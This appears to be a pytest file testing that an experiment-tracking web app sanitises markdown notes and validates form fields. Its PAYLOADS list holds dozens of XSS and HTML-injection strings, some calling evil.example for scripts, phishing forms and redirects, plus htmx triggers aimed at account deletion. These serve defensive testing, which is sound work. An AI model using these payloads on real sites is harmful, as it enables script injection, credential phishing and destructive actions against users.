"""What may be written about an experiment, and what survives of it on a page."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from explorer.accounts.models import Guest
from explorer.experiments.notes import rendered
from explorer.experiments.words import WordsRefused, read_words
from tests.explorer.experiments.stories import experiment_of

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,x></object><embed src=data:text/html,x>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x](https://evil.example/track.png)",
    "<data:text/html,x>",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "<div hx-get='/account/delete' hx-trigger='load'>x</div>",
    "<div data-hx-post='/account/delete' hx-trigger='revealed'>x</div>",
    "<hx-partial hx-target='body'>x</hx-partial>",
    "<form action='https://evil.example'><input name=password><button>x</button></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed' class='button' id='run-status'>x</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href='https://evil.example' target=_top ping='https://evil.example'>x</a>",
    '[x](https://ok.example "title\\" onmouseover=\\"alert(1)")',
    "`<script>`</code><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<scaling-chart data-budget=1></scaling-chart>",
    "<run-status hx-sse:connect='/stream'></run-status>",
]
TAG = re.compile(r"<\s*/?\s*([a-zA-Z][\w:-]*)([^>]*)>")
ATTRIBUTE = re.compile(r"([\w:-]+)\s*=")
HARMLESS = {
    "a", "blockquote", "br", "code", "em", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre",
    "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip


def assert_harmless(html: str) -> None:
    """Whatever is a tag is one of ours, with harmless attributes, and links go to three schemes."""
    for tag, attributes in TAG.findall(html):
        assert tag in HARMLESS, html
        named = set(ATTRIBUTE.findall(re.sub(r'"[^"]*"', '""', attributes)))
        assert named <= {"href", "title", "rel", "start"}, html
    for address in re.findall(r'href="([^"]*)"', html):
        scheme = re.match(r"\s*([a-z][a-z0-9+.-]*):", address, re.IGNORECASE)
        assert scheme is None or scheme[1].lower() in {"http", "https", "mailto"}, html


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_could_act_survives_in_notes(payload: str):
    assert_harmless(rendered(payload))
    assert_harmless(rendered(f"# {payload}\n\n- {payload}\n\n> {payload}\n\n|{payload}|\n|-|\n"))


@given(st.text(max_size=300) | st.lists(st.sampled_from(PAYLOADS), max_size=5).map("\n".join))
def test_no_text_at_all_becomes_anything_that_could_act(text: str):
    assert_harmless(rendered(text))


def test_notes_keep_their_shape():
    html = rendered("# Why\n\n**Bold** and [a link](https://example.org).\n\n|a|b|\n|-|-|\n|1|2|\n")
    assert "<h3>Why</h3>" in html
    assert "<strong>Bold</strong>" in html
    assert 'rel="noopener noreferrer nofollow ugc"' in html
    assert "<td>1</td>" in html


def test_words_are_tidied():
    words = read_words(
        {"title": "  Two\n words ", "tags": "Noise, noise,, a  b ", "notes": "\r\nx"}
    )
    assert words.title == "Two words"
    assert words.tags == ("noise", "a b")
    assert words.notes == "x"


@pytest.mark.parametrize(
    ("sent", "said"),
    [
        ({"title": " "}, "the title is empty, but an experiment must have one"),
        ({"title": "x" * 121}, "the title has 121 characters, but 120 is the most; leave out 1"),
        ({"title": "a\0b"}, "the title holds a character that cannot be kept"),
        ({"title": "a", "notes": "x" * 20_001}, "the notes have 20,001 characters"),
        ({"title": "a", "notes": "\ud800"}, "the notes hold a character that cannot be kept"),
        ({"title": "a", "tags": ",".join(map(str, range(11)))}, "11 tags were given, but 10 is"),
        ({"title": "a", "tags": "x" * 31}, "has 31 characters, but 30 is the most"),
    ],
)
def test_what_is_too_much_is_refused_with_its_remedy(sent: dict[str, str], said: str):
    with pytest.raises(WordsRefused, match=said):
        read_words(sent)


@pytest.mark.django_db
def test_a_refused_form_comes_back_with_what_was_written(ben: Guest, client_of):
    experiment = experiment_of(ben)
    sent = {"title": "", "notes": "kept in the form", "tags": "a"}
    answer = client_of(ben).post(f"/experiments/{experiment.id}/edit", sent)
    page = answer.content.decode()
    assert answer.status_code == 422
    assert "The title is empty" in page
    assert "kept in the form</textarea>" in page
    experiment.refresh_from_db()
    assert experiment.title == "Noise"


@pytest.mark.django_db
def test_notes_are_shown_clean_on_the_page(ben: Guest, client_of):
    experiment = experiment_of(ben, notes="<script>alert(1)</script> *fine*")
    page = client_of(ben).get(f"/experiments/{experiment.id}").content.decode()
    assert "<script>alert(1)" not in page
    assert "<em>fine</em>" in page
